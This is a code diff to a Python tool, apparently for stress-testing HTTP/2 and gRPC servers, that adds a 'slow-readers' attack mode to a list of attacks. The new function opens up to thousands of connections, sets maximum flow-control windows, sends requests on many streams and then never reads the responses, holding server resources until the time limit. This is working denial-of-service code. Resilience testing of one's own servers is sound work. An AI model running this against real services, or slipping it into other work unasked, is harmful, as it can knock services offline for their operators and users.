@@ -481,7 +481,33 @@ def connections(options):
     }
 
 
-ATTACKS = sorted(list(ON_A_CONNECTION) + ["silent", "connections"])
+def slow_readers(options):
+    """Streams that ask for much, and never a byte is read: --message is the request of each."""
+    start = time.monotonic()
+    held = []
+    headers = request_headers(options.path)
+    request = bytes.fromhex(options.message)
+    request = b"\x00" + struct.pack(">I", len(request)) + request
+    for _ in range(options.count):
+        try:
+            connection = dial(options)
+            # The largest windows, so that the server may send what it likes.
+            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1)) +
+                               frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)) +
+                               b"".join(frame(HEADERS, END_HEADERS, s, headers) + frame(DATA, 0, s, request)
+                                        for s in range(1, 20, 2)))
+            held.append(connection)
+        except (OSError, ssl.SSLError):
+            pass
+    while time.monotonic() < start + options.seconds:
+        time.sleep(0.2)
+    return {
+        "ended": False, "seconds": time.monotonic() - start, "sent": 0, "frames": 0,
+        "opened": len(held), "resets": 0
+    }
+
+
+ATTACKS = sorted(list(ON_A_CONNECTION) + ["silent", "connections", "slow-readers"])
 
 
 def address_of(target):
@@ -507,6 +533,7 @@ def parse(arguments):
     parser.add_argument("--identity", help="folder with tls.crt, tls.key and bundle.pem")
     parser.add_argument("--plain", action="store_true", help="no TLS")
     parser.add_argument("--path", default="/grpc.health.v1.Health/Check", help="method to call")
+    parser.add_argument("--message", default="", help="a request in hexadecimal, where one is sent")
     parser.add_argument("--source", help="local address to come from")
     parser.add_argument("--seconds", type=float, default=10, help="how long to try")
     parser.add_argument("--count", type=int, default=2000, help="connections, where it is many")
@@ -519,7 +546,8 @@ def parse(arguments):
 
 def main():
     options = parse(sys.argv[1:])
-    run = {"silent": silent, "connections": connections}.get(options.attack, on_a_connection)
+    many = {"silent": silent, "connections": connections, "slow-readers": slow_readers}
+    run = many.get(options.attack, on_a_connection)
     try:
         result = run(options)
     except (OSError, ssl.SSLError) as error:
